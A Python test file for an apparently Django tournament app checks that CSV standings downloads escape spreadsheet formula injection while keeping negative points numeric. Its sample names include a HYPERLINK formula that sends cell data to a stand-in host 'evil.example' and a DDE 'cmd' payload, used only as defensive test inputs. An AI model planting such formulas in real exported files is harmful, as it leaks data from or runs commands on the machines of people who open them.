"""CSV downloads never write a cell a spreadsheet program runs as a formula (issue 11: a name
``=HYPERLINK(...)`` imported from a CSV came out live in every standings CSV). Text that starts
with =, +, -, @, a tab or a carriage return is written behind an apostrophe; numbers (-18 points)
stay numbers; the import keeps names as given."""

from __future__ import annotations

import csv
import io
import re
from decimal import Decimal

import pytest
from django.test import Client

from games.models import Player, Table
from tests.games.factories import UserFactory
from tests.tournaments.factories import EventFactory
from tournaments.common.exports import FORMULA_STARTS, csv_download, spreadsheet_cell
from tournaments.draw.services import round_create_paired
from tournaments.events.registration_import import event_import
from tournaments.events.staff import event_organizer_add
from tournaments.models import Team, Unit
from tournaments.results.services import result_confirm, result_submit
from tournaments.rounds.services import round_start

pytestmark = pytest.mark.django_db

LINK = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
NAMES = [LINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=2+2"]


@pytest.mark.parametrize("text", NAMES)
def test_formula_text_is_written_behind_an_apostrophe(text: str) -> None:
    assert spreadsheet_cell(text) == "'" + text
    assert text.startswith(FORMULA_STARTS)


@pytest.mark.parametrize(
    "value",
    [-18, 18, 0, -0.5, 2.75, Decimal("-3.5"), "-18", "+3", "-1.5e3", "张伟", "a=b", "研发-1"],
)
def test_numbers_and_plain_text_are_written_as_they_are(value: object) -> None:
    assert spreadsheet_cell(value) == value
    assert spreadsheet_cell(None) == ""


def test_csv_download_escapes_every_text_cell_and_keeps_numbers() -> None:
    response = csv_download("x.csv", ["name", "=head"], [[LINK, -18], ["张伟", "-18"]])
    assert response["Content-Disposition"] == 'attachment; filename="x.csv"'
    text = response.content.decode("utf-8")
    assert text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    assert rows == [["name", "'=head"], ["'" + LINK, "-18"], ["张伟", "-18"]]


@pytest.fixture
def played():
    """An offline event imported from a CSV of formula names; one result confirmed: side A's team
    +18, side B's team -18."""
    event = EventFactory(table_mode=Table.Mode.OFFLINE)
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow(["姓名", "部门", "队伍"])
    writer.writerows([n, "@单位", "=队伍A"] for n in NAMES[:3])
    writer.writerows([n.strip(), "-单位", "+队伍B"] for n in NAMES[3:])
    content = buffer.getvalue().encode()
    event_import(event=event, filename="players.csv", content=content)
    referee, checker = UserFactory(), UserFactory()
    event_organizer_add(event=event, user=referee)
    event_organizer_add(event=event, user=checker)
    round_ = round_create_paired(event=event, confirm=True)
    round_start(round=round_)
    submission = result_submit(
        pairing=round_.pairings.get(),
        user=referee,
        first_dealer=0,
        deals=[{"finish": [0, 2, 4]}],
    )
    result_confirm(submission=submission, user=checker)
    return event


def _csv(url: str) -> list[dict[str, str]]:
    response = Client().get(url)
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    return list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))


def test_the_import_keeps_names_as_given(played) -> None:
    assert set(Player.objects.values_list("name", flat=True)) == {
        *NAMES[:3],
        *(n.strip() for n in NAMES[3:]),
    }
    assert set(Team.objects.values_list("name", flat=True)) == {"=队伍A", "+队伍B"}
    assert set(Unit.objects.values_list("name", flat=True)) == {"@单位", "-单位"}


#: The columns read below, as the API names them (machine keys) and as the page's download does
#: (in the page's language, issue 26).
API_KEYS = {"team": "team", "unit": "unit", "points": "points", "player": "player"}
PAGE_KEYS = {"team": "队伍", "unit": "单位", "points": "积分", "player": "选手"}


@pytest.mark.parametrize(
    ("prefix", "key"),
    [("/api/v1/events/{pk}/standings.csv", API_KEYS), ("/events/{pk}/standings.csv", PAGE_KEYS)],
)
def test_standings_csv_escapes_names_and_keeps_negative_points(
    played, prefix: str, key: dict[str, str]
) -> None:
    url = prefix.format(pk=played.pk)
    teams = _csv(url + "?kind=team")
    assert {r[key["team"]] for r in teams} == {"'=队伍A", "'+队伍B"}
    assert {r[key["unit"]] for r in teams} == {"'@单位", "'-单位"}
    assert sorted(int(r[key["points"]]) for r in teams) == [-18, 18]  # numbers, no apostrophe
    players = _csv(url + "?kind=player")
    names = {r[key["player"]] for r in players}
    assert "'" + LINK in names and LINK not in names
    assert all(n.startswith("'") for n in names)
    assert sorted(int(r[key["points"]]) for r in players) == [-6, -6, -6, 6, 6, 6]
    for row in teams + players:
        for key, cell in row.items():
            assert not cell.startswith(FORMULA_STARTS) or cell.lstrip("-").isdigit(), (key, cell)


def test_meet_csv_escapes_unit_names(played) -> None:
    # Only a finished event gives placement points (issue 15).
    assert _csv(f"/meets/{played.meet.slug}/standings.csv") == []
    type(played).objects.filter(pk=played.pk).update(status="finished")
    rows = _csv(f"/meets/{played.meet.slug}/standings.csv")
    assert {r["单位"] for r in rows} == {"'@单位", "'-单位"}
    assert all(float(r["积分"]) >= 0 for r in rows)


def test_the_pages_download_speaks_the_pages_language(played) -> None:
    # Issue 26: the page's CSV had machine keys for headers and "False" in its cells.
    response = Client().get(f"/events/{played.pk}/standings.csv?kind=team")
    text = response.content.decode("utf-8-sig")
    header = next(csv.reader(io.StringIO(text)))
    assert header[:4] == ["名次", "队伍编号", "队伍", "单位"] and header[-1] == "并列"
    assert "False" not in text and "True" not in text
    english = Client()
    english.cookies["django_language"] = "en"
    text = english.get(f"/events/{played.pk}/standings.csv?kind=player").content.decode("utf-8-sig")
    header = next(csv.reader(io.StringIO(text)))
    assert header[:3] == ["Rank", "Player id", "Player"] and "Tied" in header
    assert "False" not in text
    # the API keeps the keys programs read
    api = Client().get(f"/api/v1/events/{played.pk}/standings.csv?kind=team")
    assert next(csv.reader(io.StringIO(api.content.decode("utf-8-sig"))))[:3] == [
        "rank",
        "team_id",
        "team",
    ]


def test_every_spreadsheet_writer_is_the_shared_one() -> None:
    """A CSV or XLSX written anywhere else would skip the escaping: only
    tournaments/common/exports.py writes them (tournaments/events/importing.py only reads)."""
    from pathlib import Path

    root = Path(__file__).resolve().parents[3]
    writers = re.compile(r"csv\.writer\(|DictWriter\(|Workbook\(|openpyxl\.Workbook|xlsxwriter")
    found = [
        str(path.relative_to(root))
        for app in ("accounts", "config", "engine", "games", "tournaments")
        for path in (root / app).rglob("*.py")
        if writers.search(path.read_text(encoding="utf-8"))
    ]
    assert found == ["tournaments/common/exports.py"]
